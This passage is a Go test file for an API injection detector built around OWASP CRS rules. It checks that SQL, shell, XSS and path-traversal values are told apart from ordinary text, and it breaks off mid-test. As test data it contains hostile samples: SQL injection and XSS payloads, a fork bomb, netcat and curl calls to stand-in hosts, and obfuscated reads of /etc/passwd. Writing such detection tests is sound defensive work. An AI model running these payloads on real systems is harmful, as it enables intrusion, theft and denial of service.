package detect

import (
	"fmt"
	"strings"
	"testing"
)

func TestSyntaxOf(t *testing.T) {
	for _, tc := range []struct {
		v    string
		want codeSyntax
	}{
		// SQL grammar
		{"admin'--", synSQL},
		{"admin'#", synSQL},
		{"1 or 1=1 #", synSQL},
		{"### End of file managed by Rudder ###", 0}, // a banner, not a comment
		{"' notnull --", synSQL},
		{"'glob 1;", synSQL},
		{"x' or username like x escape 'x';", synSQL},
		{"1 union/**/select 2", synSQL},
		{"name = '", synSQL},
		{"OR name = \"", synSQL},
		{"AND deleted = 0)", synSQL},
		{"or 1 like 1", synSQL},
		{"pay=AND deleted = 0)", synSQL},
		{"/Cm7 OR ", synSQL},
		{"; SET @OLD_SQL_MODE", synSQL | synShell}, // a leading separator and a word is shell too
		{">SET @OLD_SQL_NOTES", synSQL},
		{"name=(select", synSQL},
		// clauses of a query in their order (sqlClauses); written for the
		// grammar, not taken from a suite
		{"FROM orders WHERE status = 'paid'", synSQL},
		{"from `t_log` where `t_log`.`id` = 7 limit", synSQL},
		{"x FROM accounts GROUP BY region", synSQL},
		{"FROM users LIMIT 1", synSQL},
		{"FROM a INNER JOIN b", synSQL},
		{"count(*) group by owner having", synSQL},
		{"order by created desc", synSQL},
		{"max(price) AS top FROM", synSQL},
		{"42 as \"n\" from", synSQL},
		{"select * from items", synSQL},
		{"select id, email from members;", synSQL},
		{"select @@version", synSQL},
		{"select 0x414243", synSQL},
		{"substr(name,1,1)::int", synSQL},
		{"1=1", synSQL},
		{"'x'='x'", synSQL},
		{"HAVING 1=1", synSQL},
		{"CASE WHEN 1 THEN", synSQL},
		{"x) when 5 then", synSQL},
		// shell grammar
		{"sh -c id", synShell},
		{"cat ${HOME}/x", synShell},
		{"echo $(id)", synShell},
		{"cp $SRC /tmp", synShell},
		{"echo %PATH%", synShell},
		{";vim -c:pwd", synShell},
		{"| nc host 80", synShell},
		{"FOR /D %a IN (dirs) DO abc", synShell},
		{"IF NOT EXIST C:\\x CMD", synShell},
		{"if [%1]==[] echo missing", synShell},
		{"f(){ f|f& };f", synShell},
		{":(){ :|:& };:", synShell},
		{"{,echo,#test}", synShell},
		{"host;c$@at /et$!c/passwd", synShell},
		{"ping`` 127.0.0.1", synShell},
		{"x;./run.sh", synShell},
		{"1;\n.tables", synShell},
		{"a=c;b=at;$a$b /etc/passwd", synShell},
		{"v='u';cu$v\\rl host", synShell},
		// natural-language text and ordinary values
		{"Customer since '09; still happy", 0},
		{"He said 'no' and left", 0},
		{"Rated 5/5 -- OR better if it had a dimmer", 0},
		{"O'Brien and O'Neil", 0},
		{"teachers' and students' rooms", 0},
		{"well-known item, ships in 2-3 days", 0},
		{"and/or either", 0},
		{"sendere$a2", 0},
		{"price: $12.50", 0},
		{"100% cotton", 0},
		{"If not defined, use the default", 0},
		{"For details see the FAQ", 0},
		{"#1 seller", 0},
		{"Assembly: insert tab A -> slot B, done", 0},
		{"2026-01-01", 0},
		{"Call f() to start", 0},
		{"salt and", 0},
		{"Fish and chips or", 0},
		{"(Select all that apply)", 0},
		{"rock and roll", 0},
		{"{\"a\":1,\"b\":2}", 0},
		{"set {1,2}", 0},
		{"US$5 or $@ alone", 0},
		{"it''s fine", 0},
		{"Done; .NET 8 next", 0},
		{"items; ./ in the docs", 0},
		{"US$5 costs $5", 0},
		// the same words in prose and ordinary values
		{"Please list them in order by Friday", 0},
		{"Select one from the list below", 0},
		{"Select 2 from each group", 0},
		{"Select 'All' from the menu", 0},
		{"Tickets from Paris where available", 0},
		{"shipped from stock limit 2 per customer", 0},
		{"greetings from Paris, join us", 0},
		{"group by team and have fun", 0},
		{"sold as is from our warehouse", 0},
		{"std::string and fe80::1", 0},
		{"I'll select the items from the list", 0},
		{"1=2", 0},
		{"a=b", 0},
		{"having fun = great", 0},
		{"(see above) when done then leave", 0},
		{"in case when 5 then call", 0},
	} {
		if got := syntaxOf(tc.v); got != tc.want {
			t.Errorf("syntaxOf(%q) = %v (%d), want %v", tc.v, got, got, tc.want)
		}
	}
}

func TestTraversalNowhere(t *testing.T) {
	seq := []int{930110}
	for _, tc := range []struct {
		kind PartKind
		name string
		v    string
		ids  []int
		want bool
	}{
		{PartQuery, "q", "../ sale", seq, true},
		{PartQuery, "q", "..\\ 50% off", seq, true},
		{PartJSON, "text", "see ../ below and ../ above", seq, true},
		// the sequence leads to a path segment, or ends the value
		{PartQuery, "q", "../ ../../etc/passwd", seq, false},
		{PartQuery, "q", "../sale", seq, false},
		{PartQuery, "q", "sale ../", seq, false},
		// a file target among the rules
		{PartQuery, "q", "../ sale", []int{930110, 930120}, false},
		// no words
		{PartQuery, "q", "../ 12", seq, false},
		// a parameter used as a path
		{PartQuery, "file", "../ sale", seq, false},
		{PartForm, "template_name", "../ sale", seq, false},
		{PartQuery, "redirect_url", "../ sale", seq, false},
		{PartPath, "", "../ sale", seq, false},
		{PartMultipartFile, "upload", "../ sale", seq, false},
	} {
		if got := traversalNowhere(tc.kind, tc.name, tc.v, tc.ids); got != tc.want {
			t.Errorf("traversalNowhere(%v, %q, %q, %v) = %v, want %v", tc.kind, tc.name, tc.v, tc.ids, got, tc.want)
		}
	}
}

// A search for "../ sale" is no traversal; the same sequence leading to a
// file is, in the same parameter.
func TestInjectionTraversalInFreeText(t *testing.T) {
	d := NewInjection(Config{})
	for _, tc := range []struct {
		v    string
		want bool
	}{
		{"../ sale", false},
		{"../ 50% off", false},
		{"../../../etc/passwd", true},
		{"../ ../../../etc/shadow", true},
		{"..%2f..%2f..%2fetc%2fpasswd", true},
	} {
		got := false
		for _, f := range d.Inspect(placeValue(t, "query", tc.v)) {
			got = got || f.Class == ClassPathTraversal
		}
		if got != tc.want {
			t.Errorf("%q: path traversal reported %v, want %v", tc.v, got, tc.want)
		}
	}
}

// A restricted file named in a plain path is reported when the API served
// it, not when it answered with an error (a probe: recon's evidence).
func TestInjectionFileProbeNotServed(t *testing.T) {
	for _, tc := range []struct {
		status int
		want   bool
	}{{200, true}, {404, false}, {403, false}} {
		d := NewInjection(Config{})
		for _, path := range []string{"/.env", "/.htaccess~", "/files//etc/passwd", "/x//var/log/auth.log/view"} {
			got := false
			n := d.NotServed
			for _, f := range d.Inspect(sigEvent(t, "GET", "https://api.example.test"+path, nil, "", tc.status)) {
				got = got || f.Class == ClassPathTraversal
			}
			if got != tc.want || (d.NotServed == n+1) == tc.want {
				t.Errorf("GET %s answered %d: reported %v (not served %d), want %v", path, tc.status, got, d.NotServed-n, tc.want)
			}
		}
	}
	// a traversal in the path is judged whatever the answer
	d := NewInjection(Config{})
	if fs := d.Inspect(sigEvent(t, "GET", "https://api.example.test/static/..%2f..%2f..%2fetc%2fpasswd", nil, "", 404)); len(fs) == 0 {
		t.Error("traversal in the path answered 404: not reported")
	}
}

// Lines of a text field that start like POP3 commands are prose unless
// they have the command's argument shape; in a URL part the bare
// commands count too.
func TestPOP3Commands(t *testing.T) {
	d := NewInjection(Config{})
	for _, tc := range []struct {
		where, v string
		want     bool
	}{
		{"json", "Shopping:\nList 3 items\nTop 5 picks\nHelp wanted", false},
		{"json", "Todo\nuser guide\nstat sheet\nStat", false},
		{"json", "note\r\nRETR 1", true},
		{"query", "x\r\nSTAT", true},
		{"query", "x\r\nUSER admin", true},
	} {
		got := false
		for _, f := range d.Inspect(placeValue(t, tc.where, tc.v)) {
			got = got || f.Class == ClassCRLF
		}
		if got != tc.want {
			t.Errorf("%s %q: crlf %v, want %v", tc.where, tc.v, got, tc.want)
		}
	}
}

// TestFileInReferrerOrAgent: CRS 930121 (a system file named in the
// Referer or User-Agent, paranoia 2) counts alone outside any URL of the
// header; inside a URL it is the page's name.
func TestFileInReferrerOrAgent(t *testing.T) {
	d := coldInjection()
	for _, tc := range []struct {
		h    map[string]string
		want bool
	}{
		{map[string]string{"user-agent": "Mozilla/5.0 ../../../../etc/passwd"}, true},
		{map[string]string{"referer": "/etc/passwd"}, true},
		{map[string]string{"user-agent": "Mozilla/5.0 (compatible; Bot/2.1; +http://bot.example/etc/passwd.html)"}, false},
		{map[string]string{"referer": "https://docs.example/guides/etc/hosts"}, false},
		{map[string]string{"referer": "https://shop.example/item/42"}, false},
		// everyday agents and referrers
		{map[string]string{"user-agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"}, false},
		{map[string]string{"user-agent": "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"}, false},
		{map[string]string{"user-agent": "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1"}, false},
		{map[string]string{"user-agent": "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"}, false},
		{map[string]string{"user-agent": "curl/8.5.0"}, false},
		{map[string]string{"user-agent": "python-requests/2.32.3"}, false},
		{map[string]string{"user-agent": "okhttp/4.12.0"}, false},
		{map[string]string{"user-agent": "Java/17.0.2"}, false},
		{map[string]string{"user-agent": "PostmanRuntime/7.42.0"}, false},
		{map[string]string{"user-agent": "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A.240905.003)"}, false},
		{map[string]string{"referer": "android-app://com.google.android.gm/"}, false},
		{map[string]string{"referer": "https://www.google.com/"}, false},
	} {
		ev := sigEvent(t, "GET", "https://api.example.test/v1/items", tc.h, "", 200)
		got := false
		for _, f := range d.Inspect(ev) {
			if f.Class == ClassPathTraversal {
				got = true
			}
		}
		if got != tc.want {
			t.Errorf("%v: path traversal %v, want %v", tc.h, got, tc.want)
		}
	}
}

// FuzzSyntaxOf: the grammar checks and the clause lexer take any bytes
// (decoded values are attacker-controlled) without panicking, and the
// lexer keeps its token budget.
func FuzzSyntaxOf(f *testing.F) {
	for _, s := range []string{"FROM `t`.`id` WHERE a = 1", ") AS v FROM", "select 0x41", "1=1", "'", "`", "a=c;b=at;$a$b", ";\n.x", "x) when 5 then", "\"\x00\xff::"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		_ = syntaxOf(s)
		if ts := clauseLex(s); len(ts) > 64 {
			t.Fatalf("%d tokens beyond the budget", len(ts))
		}
		_ = literalTautology(s)
		_, _ = dbSystemObject(asciiLower(s))
	})
}

// TestBarePiecesBenign: query pieces without "=" are judged as values;
// the everyday ones stay quiet, a payload does not.
func TestBarePiecesBenign(t *testing.T) {
	d := coldInjection()
	for _, tc := range []struct {
		url  string
		want bool
	}{
		{"https://api.example.test/v1/svc?wsdl", false},
		{"https://api.example.test/v1/page?edit", false},
		{"https://api.example.test/v1/a?1701234567", false},
		{"https://api.example.test/v1/a?v2&x=1", false},
		{"https://api.example.test/v1/search?red+shoes+size+42", false},
		{"https://api.example.test/v1/a?utf8=%E2%9C%93&q=x", false},
		{"https://api.example.test/v1/a?1%27%20OR%20%271%27%3D%271", true},
		{"https://api.example.test/v1/a?xp_cmdshell", true},
	} {
		got := len(d.Inspect(sigEvent(t, "GET", tc.url, nil, "", 200))) > 0
		if got != tc.want {
			t.Errorf("%s: flagged %v, want %v", tc.url, got, tc.want)
		}
	}
}

// assembledVariableRef is the first, quadratic form of assembledVariable
// (for each expansion, a search of the text before it): the reference
// of FuzzAssembledVariable.
func assembledVariableRef(t string) bool {
	for i := 1; i+1 < len(t); i++ {
		if t[i] != '$' || !isLetterByte(t[i+1]) {
			continue
		}
		k := i + 1
		for k < len(t) && isWordByte(t[k]) {
			k++
		}
		name := t[i+1 : k]
		for at := 0; at < i; {
			j := strings.Index(t[at:i], name+"=")
			if j < 0 {
				break
			}
			j += at
			if j == 0 || strings.IndexByte(";&| \t\n", t[j-1]) >= 0 {
				return true
			}
			at = j + 1
		}
	}
	return false
}

// FuzzAssembledVariable: the one-pass form agrees with the reference.
func FuzzAssembledVariable(f *testing.F) {
	for _, s := range []string{"a=c;b=at;$a$b /etc/passwd", "v='u';cu$v\\rl host", "xa=$a", "$a a=1", "a=1 $ab", "ab=1 $a", "a=$a", "US$5 costs $5", "x;a=;$a"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if got, want := assembledVariable(s), assembledVariableRef(s); got != want {
			t.Fatalf("assembledVariable(%q) = %v, reference %v", s, got, want)
		}
	})
}

// BenchmarkSyntaxOfHostile: a value made to be costly (32 KB of
// near-assignments, then expansions): the quadratic assembledVariable
// took ≈ 1 s on it; syntaxOf must stay linear.
func BenchmarkSyntaxOfHostile(b *testing.B) {
	s := (strings.Repeat("xa=", 5400) + strings.Repeat("$a", 9000))[:32768]
	for b.Loop() {
		syntaxOf(s)
	}
}

// BenchmarkMatchInjectionHostile: 32 KB of "..;" (a path parameter after
// every pair of dots): the scan to each parameter's end took ≈ 120 ms
// when it started again at every pair.
func BenchmarkMatchInjectionHostile(b *testing.B) {
	s := strings.Repeat("..;", 10900)
	for b.Loop() {
		MatchInjection(PartQuery, s)
	}
}

// TestLoneLevel2: when one CRS paranoia-2 rule is evidence enough alone.
func TestLoneLevel2(t *testing.T) {
	for _, tc := range []struct {
		class InjClass
		ids   []int
		text  string
		span  string
		want  bool
	}{
		{ClassSQLi, []int{942380}, "ORder by", "ORder by", true},
		{ClassSQLi, []int{942120}, "1042 rlike 1", "rlike", true},
		{ClassSQLi, []int{942390}, "sizes 5 or 6", "or 6", false},                // everyday English words count only in SQL pairs
		{ClassSQLi, []int{942120}, "h2<h1", "<", false},                          // operators on identifiers
		{ClassSQLi, []int{942520}, `"dining table" -round`, `" -`, false},        // vocabulary outside the rule's match
		{ClassSQLi, []int{942200}, "c/ rio avia, 105, or 2", ", 105, or", false}, // commas alone
		{ClassSQLi, []int{942200, 942380}, "x, y order by 2", "order by", true},
		{ClassXSS, []int{941380}, "Dear {{first_name}}", "{{", false},
		{ClassXSS, []int{941380}, "{{ user.first_name }} and {{x}}", "{{", false},
		{ClassXSS, []int{941380}, "{{constructor.constructor('alert(1)')()}}", "{{", true},
		{ClassXSS, []int{941380}, "{{a}} {{b", "{{", true}, // not closed: not a placeholder
		{ClassXSS, []int{941180}, "x='document.cookie", "document.cookie", true},
		{ClassXSS, []int{941150}, "src=img.png", "src=", false},      // an attribute assignment, no markup
		{ClassXSS, []int{941181}, "step 1 --> step 2", "-->", false}, // an arrow
		{ClassXSS, []int{941380}, "{{ name | upper }}", "{{", false}, // a filtered placeholder
		{ClassXSS, []int{941380}, "{{ 7*7 }}", "{{", true},           // an expression
		{ClassCmd, []int{932236}, "pip3 install something", "pip3", false},
		{ClassCmd, []int{932236, 932200}, "java lang s/n", "java", false},
		{ClassCmd, []int{932232}, "|vi (x", "|vi", true},
		{ClassPathTraversal, []int{930121}, "/etc/passwd", "/etc/passwd", false},
	} {
		if got := loneLevel2(tc.class, tc.ids, tc.text, tc.span); got != tc.want {
			t.Errorf("%s %v %q (span %q): %v, want %v", tc.class, tc.ids, tc.text, tc.span, got, tc.want)
		}
	}
	for s, want := range map[string]bool{"SeLeCt": true, "x_select": false, "RLIKE": true, "like new": false, "likely": false, "--": false, "a'b": false, "": false,
		"is": false, "is null": true, "ORDER  BY": true, "order, by": false, "1 is not 2": true, "salt and pepper": false} {
		if got := sqlVocabulary(s); got != want {
			t.Errorf("sqlVocabulary(%q) = %v, want %v", s, got, want)
		}
	}
}

func TestMediaDataURI(t *testing.T) {
	for s, want := range map[string]bool{
		"data:image/png;base64,iVBORw0KGgo=":                     true,
		"DATA:image/jpeg;base64,/9j/4AAQSkZJRg==":                true,
		"data:audio/ogg;codecs=opus;base64,T2dnUw==":             true,
		"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+": false, // SVG holds script
		"data:text/html;base64,PHNjcmlwdD4=":                     false,
		"data:image/png,<script>alert(1)</script>":               false, // not base64
		"data:image/png;base64,iVBOR<script>":                    false, // not a base64 payload
		"data:image/png;base64":                                  false,
		"image/png;base64,iVBOR":                                 false,
	} {
		if got := mediaDataURI(s); got != want {
			t.Errorf("mediaDataURI(%q) = %v, want %v", s, got, want)
		}
	}
}

// testCert and testPubKey are a throwaway self-signed certificate and
// public key (openssl req -x509 -newkey rsa:1024), as an API that takes a
// certificate or a key receives them.
const testCert = `-----BEGIN CERTIFICATE-----
MIIB+jCCAWOgAwIBAgIUTk/7+6YN/0eFAzk0HGqYJdXWnhEwDQYJKoZIhvcNAQEL
BQAwDzENMAsGA1UEAwwEdGVzdDAeFw0yNjEyMDcxNjEwNDRaFw0yNjEyMDgxNjEw
NDRaMA8xDTALBgNVBAMMBHRlc3QwgZ8wDQYJKoZIhvcNAQEBBQADgY0AMIGJAoGB
AOYBmULsYn2mkmy8jx2ivvZkCmx6YvR36NhPYC8fipu5Y/8UepSoclc5H7U7fKwI
QifPT3OLvQulX5cbqssoTCC8VaOWO/mjrhmWiR6V3/pLrwQpy74Fh+1TkkhJgUSe
UIvhuNvb5Svlh8BP3QZCTmO4Vu1JWanaRiNZdaddQZf9AgMBAAGjUzBRMB0GA1Ud
DgQWBBRm0NNdxZm2MkGnskKyEN+Bp2pqRzAfBgNVHSMEGDAWgBRm0NNdxZm2MkGn
skKyEN+Bp2pqRzAPBgNVHRMBAf8EBTADAQH/MA0GCSqGSIb3DQEBCwUAA4GBAOM0
I083QNy5P+7opz5d48vL0fdOwm8Jge3VNELpmd5sXaxax9COKWBTCooKER0L7IR0
s7+nCLBAddxT2BYnJotM+UdAaOTbFYw7WIAiw5Sa3fdLgYTrlTdLEfV+GhHuo4Dz
ltRGf+7XYqK42vYuEMSU3pqPMentzOPU+XdKhkwv
-----END CERTIFICATE-----`

const testPubKey = `-----BEGIN PUBLIC KEY-----
MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQDmAZlC7GJ9ppJsvI8dor72ZAps
emL0d+jYT2AvH4qbuWP/FHqUqHJXOR+1O3ysCEInz09zi70LpV+XG6rLKEwgvFWj
ljv5o64Zlokeld/6S68EKcu+BYftU5JISYFEnlCL4bjb2+Ur5YfAT90GQk5juFbt
SVmp2kYjWXWnXUGX/QIDAQAB
-----END PUBLIC KEY-----`

// TestPEMArmored: a value of PEM blocks is a certificate or key, not SQL
// comments; PEM armor around anything that is not base64, or with other
// text beside it, is not.
func TestPEMArmored(t *testing.T) {
	for s, want := range map[string]bool{
		testCert:                     true,
		testPubKey:                   true,
		"\n  " + testCert + "\r\n":   true,
		testCert + "\n" + testPubKey: true, // a chain
		strings.ReplaceAll(testCert, "\n", "\r\n"):                            true,
		"-----BEGIN CERTIFICATE-----\n' or 1=1 --\n-----END CERTIFICATE-----": false,
		testCert + "\n' or 1=1 --":                                            false,
		"x " + testCert:                                                       false,
		"-----BEGIN CERTIFICATE-----":                                         false,
		"-- comment":                                                          false,
	} {
		if got := pemArmored(s); got != want {
			t.Errorf("pemArmored(%q) = %v, want %v", s, got, want)
		}
	}
	d := coldInjection()
	for _, where := range []string{"json", "form", "query"} {
		for _, v := range []string{testCert, testPubKey} {
			if fs := d.Inspect(placeValue(t, where, v)); len(fs) > 0 {
				t.Errorf("%s: PEM flagged: %s %q (%s)", where, fs[0].Class, fs[0].Fragment, fs[0].Reason)
			}
		}
		if fs := d.Inspect(placeValue(t, where, "-----BEGIN CERTIFICATE-----\n' or 1=1 --\n-----END CERTIFICATE-----")); len(fs) == 0 {
			t.Errorf("%s: SQL inside PEM armor not flagged", where)
		}
	}
}

// TestOneWordNotAlone: one SQL word as the whole value (an enumeration's
// match type or column type) is not evidence alone; with an operand it is.
func TestOneWordNotAlone(t *testing.T) {
	for s, want := range map[string]bool{"regexp": true, " VARCHAR ": true, "rlike_1": true, "1042 rlike 1": false, "is null": false, "": false, "a-b": false} {
		if got := oneWord(s); got != want {
			t.Errorf("oneWord(%q) = %v, want %v", s, got, want)
		}
	}
	if !loneLevel2(ClassSQLi, []int{942120}, "1042 rlike 1", "rlike") || loneLevel2(ClassSQLi, []int{942120}, "rlike", "rlike") {
		t.Error("loneLevel2 on one word")
	}
}

// TestCmdEvasion: a program's name written so the shell still finds it —
// split by quotes or backslashes it removes, or spelt by pathname
// expansion — is command injection; apostrophes, URL queries and file
// patterns are not.
func TestCmdEvasion(t *testing.T) {
	for v, want := range map[string]bool{
		"w'h'o'a'm'i":                          true,
		`w"h"o"a"m"i`:                          true,
		`wh\oami`:                              true,
		"c'a't /etc/passwd":                    true, // a word command split twice, with a shell argument
		";w'h'o'am'i":                          true,
		"/bin/c?t /e??/p?sswd":                 true,
		"/???/??t /???/??ss??":                 true,
		";/usr/bin/w[h]oami":                   true,
		"x=1;/usr/local/bin/?url evil.example": true,
		"it's a \"quoted\" word":               false,
		"l's":                                  false, // an apostrophe in a word command
		"don't stop":                           false,
		"rock'n'roll":                          false,
		"O'Reilly":                             false,
		"s/n 4?h":                              false,
		"/api/items?id=3":                      false,
		"/docs/*.md":                           false,
		"/*/*":                                 false, // no literal name
		"what's up? /home/me":                  false,
		`C:\Users\me`:                          false,
		`domain\user`:                          false,
		`"cat" and "dog"`:                      false,
		"/usr/share/*.txt":                     false,
	} {
		got := false
		for _, m := range MatchInjection(PartQuery, v) {
			got = got || m.Class == ClassCmd
		}
		if got != want {
			t.Errorf("%q: command injection %v, want %v (%v)", v, got, want, MatchInjection(PartQuery, v))
		}
	}
}

// TestSQLCommentOpen: "/*" opens a SQL comment, except as a pathname
// wildcard.
func TestSQLCommentOpen(t *testing.T) {
	for v, want := range map[string]bool{
		"1/*": true, "admin'/*": true, "1/**/or/**/1=1": true, "union/*!50000select*/": true, "x/* comment": true, "id=1/*": true,
		"src/**/*.go": true, // "/**/" is the comment that stands for a space
		"/docs/*.md":  false, "/api/*": false, "/*/*": false, "/b?n/*.log": false, "files: /var/log/*.log, /tmp/*.tmp": false, "no comment": false,
		// storage prefixes and IAM resources: a named prefix closed by a
		// wildcard, after a URI scheme or an ARN's fields
		"arn:aws:s3:::my-bucket/*": false, "s3://bucket/logs/*": false, "reports/*": false, "logs/2026/*": false,
		`{"Resource":"arn:aws:s3:::examplebucket/*"}`: false,
		"a/*": true, "x' or 1=1/*": true, "abc:/*": true, "name/*!50000union*/": true, "1:x'/*": true,
	} {
		if got := sqlCommentOpen(v); got != want {
			t.Errorf("sqlCommentOpen(%q) = %v, want %v", v, got, want)
		}
	}
}

// BenchmarkGlobCommandHostile: 32 KB of wildcard paths; globCommand tries
// at most maxGlobWords of them.
func BenchmarkGlobCommandHostile(b *testing.B) {
	s := strings.Repeat("/*/??? ", 4700)[:32768]
	for b.Loop() {
		MatchInjection(PartQuery, s)
	}
}

// TestEmbeddedSystemPath: an absolute path under a system directory given
// as a path parameter, after an empty segment or as a drive-letter segment.
func TestEmbeddedSystemPath(t *testing.T) {
	for p, want := range map[string]bool{
		"/files//etc/passwd":                     true,
		"/api/v1/items//var/log/httpd/error_log": true,
		"/x//etc/shadow/reviews":                 true,
		"/download/c:/windows/win.ini":           true,
		`/dl/c:\winnt\php.ini`:                   true,
		"/api/v1//items":                         false, // a client's double slash
		"/api/v1/items//api/v2/items":            false,
		"/files//etc":                            false, // the directory alone
		"/static/etc/passwd.html":                false, // no empty segment: a resource named so
		"/a/bc:/etc/x":                           false, // not a drive letter
	} {
		if _, got := embeddedSystemPath(p); got != want {
			t.Errorf("embeddedSystemPath(%q) = %v, want %v", p, got, want)
		}
	}
}

// TestAppHeader: non-standard headers carrying the application's data are
// judged with CRS's argument rules, as a query parameter would be; proxy
// and tracing headers are not.
func TestAppHeader(t *testing.T) {
	for name, want := range map[string]bool{
		"x-custom-data": true, "x-filter": true, "x-user-id": true, "x-original-url": true,
		"x-forwarded-for": false, "x-forwarded-host": false, "x-real-ip": false, "x-b3-traceid": false, "x-amz-date": false,
		"x-request-id": false, "referer": false, "origin": false, "via": false,
		"x-envoy-peer-metadata-id": false, "x-istio-attributes": false, "x-kong-request-id": false, "x-ms-client-principal": false,
	} {
		if got := appHeader(name); got != want {
			t.Errorf("appHeader(%q) = %v, want %v", name, got, want)
		}
	}
	d := NewInjection(Config{})
	for _, tc := range []struct {
		hdr, v string
		want   InjClass
		hit    bool
	}{
		{"x-custom-data", "alert(1)><input autofocus>", ClassXSS, true}, // CRS argument rules
		{"x-custom-data", "<head>", ClassXSS, true},
		{"x-client-version", "ios/17.2.1 (iPhone14,2; Scale/3.00)", ClassXSS, false},
		{"x-filter", "status eq 'active' and age gt 30", ClassSQLi, false},
		{"x-comment", `Don't forget the "special" keys; we'll meet at 5 o'clock`, ClassCmd, false},
	} {
		got := false
		for _, f := range d.Inspect(sigEvent(t, "GET", "https://api.example.test/api/items", map[string]string{tc.hdr: tc.v}, "", 200)) {
			got = got || f.Class == tc.want
		}
		if got != tc.hit {
			t.Errorf("%s: %q: %s reported %v, want %v", tc.hdr, tc.v, tc.want, got, tc.hit)
		}
	}
}

// TestPathSegmentCmd: a shell metacharacter and command in one segment of
// the path; the segment ends the shell word.
func TestPathSegmentCmd(t *testing.T) {
	d := NewInjection(Config{})
	for path, want := range map[string]bool{
		"/api/items/;id/reviews":        true,
		"/api/items/a%7Cid/reviews":     true,
		"/api/items/;%20ifconfig/x":     true,
		"/man/netstat":                  false, // no metacharacter: a page about it
		"/api/items;jsessionid=ab12/x":  false, // a path parameter
		"/api/items/R&D;q=1/reviews":    false,
		"/api/orders/1042;v=2/lines/id": false,
	} {
		got := false
		for _, f := range d.Inspect(sigEvent(t, "GET", "https://api.example.test"+path, nil, "", 200)) {
			got = got || f.Class == ClassCmd
		}
		if got != want {
			t.Errorf("GET %s: command injection %v, want %v", path, got, want)
		}
	}
}

// BenchmarkEmbeddedSystemPathHostile: a 32 KB path of empty segments;
// embeddedSystemPath tries at most maxPathCandidates places.
func BenchmarkEmbeddedSystemPathHostile(b *testing.B) {
	s := strings.Repeat("//x", 11000)[:32768]
	for b.Loop() {
		embeddedSystemPath(s)
		MatchInjection(PartPath, s)
	}
}

// BenchmarkPathSegmentCmdHostile: a 32 KB path of segments that each hold
// a metacharacter; pathSegmentCmd judges at most maxCmdSegments of them.
func BenchmarkPathSegmentCmdHostile(b *testing.B) {
	s := strings.Repeat("/;a", 11000)[:32768]
	for b.Loop() {
		MatchInjection(PartPath, s)
	}
}

// TestCRSMatchJSON: a value that is a JSON document is judged leaf by leaf,
// as CRS judges a JSON body — not by its punctuation; a document broken
// out of is text.
func TestCRSMatchJSON(t *testing.T) {
	d := coldInjection()
	for _, tc := range []struct {
		v    string
		want bool
	}{
		{`{"id":5,"roles":["admin","editor"],"tenant":"acme"}`, false},
		{`{"os":"Android 14","model":"Pixel 8","app":"3.2.1 (build 456)"}`, false},
		{`{"where":{"name":{"like":"%shoe%"}},"limit":10,"order":"price DESC"}`, false},
		{"eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ", false}, // base64 of JSON
		{`{"q":"1' or '1'='1"}`, true},
		{`{"id":"1 union select password from users--"}`, true},
		{`{"q":"<script>alert(1)</script>"}`, true},
		{`{"cmd":"; cat /etc/passwd"}`, true},
		{`{"a":"x"} OR 1=1--`, true}, // not a document: text
	} {
		for _, where := range []string{"query", "header"} {
			got := len(d.Inspect(placeValue(t, where, tc.v))) > 0
			if got != tc.want {
				t.Errorf("%s %q: reported %v, want %v", where, tc.v, got, tc.want)
			}
		}
	}
}

// TestCRSMatchJSONBound: past maxJSONLeaves strings, the rest of a JSON
// value is judged as text — a payload in its last leaf is found.
func TestCRSMatchJSONBound(t *testing.T) {
	var b strings.Builder
	b.WriteString(`{"a":[`)
	for i := range maxJSONLeaves + 50 {
		fmt.Fprintf(&b, `"v%d",`, i)
	}
	b.WriteString(`"<script>alert(document.cookie)</script>"]}`)
	d := coldInjection()
	found := false
	for _, f := range d.Inspect(placeValue(t, "query", b.String())) {
		found = found || f.Class == ClassXSS
	}
	if !found {
		t.Error("a payload past the leaf bound was not found")
	}
}

// BenchmarkCRSMatchJSONHostile: a 30 KB JSON value of short strings (under max_value: judged as JSON).
func BenchmarkCRSMatchJSONHostile(b *testing.B) {
	var sb strings.Builder
	sb.WriteString("[")
	for sb.Len() < 30<<10 {
		sb.WriteString(`"ab'x",`)
	}
	sb.WriteString(`"z"]`)
	d := coldInjection()
	ev := placeValue(b, "query", sb.String())
	for b.Loop() {
		d.Inspect(ev)
	}
}

// TestVarPlaceholders: template placeholders in a configuration value are
// not a command; shell variables of evasion, placeholders beside a shell
// separator, and other rules are.
func TestVarPlaceholders(t *testing.T) {
	for _, tc := range []struct {
		ids  []int
		s    string
		want bool
	}{
		{[]int{932130, 933135}, "group:${nodeGroupId}", true},
		{[]int{932130}, "${project.version}", true},
		{[]int{932130}, "${env_name}-${region}", true},
		{[]int{932130}, "${IFS}", false},          // upper case: a shell variable
		{[]int{932130}, "a=${PATH:0:1}", false},   // substring expansion
		{[]int{932130}, ";${home}", false},        // a separator
		{[]int{932130}, "${x}$(id)", false},       // command substitution
		{[]int{932130}, "${7*7}", false},          // an expression
		{[]int{932130}, "$HOME/${dir}", false},    // a bare variable
		{[]int{932130, 932100}, "${name}", false}, // another rule
		{[]int{932130}, "no dollar", false},
		{[]int{932130, 932240, 933135}, "${var.region}-${var.env}", true}, // 932240 reads the "-"
		{[]int{932130, 932240, 933135}, "deploy-${env}.example.com", true},
		{[]int{932130, 932240, 933135}, "who${x}ami", false}, // inside a word: evasion
		{[]int{932130, 932240, 933135}, "i${x}d", false},
	} {
		if got := varPlaceholders(tc.ids, tc.s); got != tc.want {
			t.Errorf("varPlaceholders(%v, %q) = %v, want %v", tc.ids, tc.s, got, tc.want)
		}
	}
	d := coldInjection()
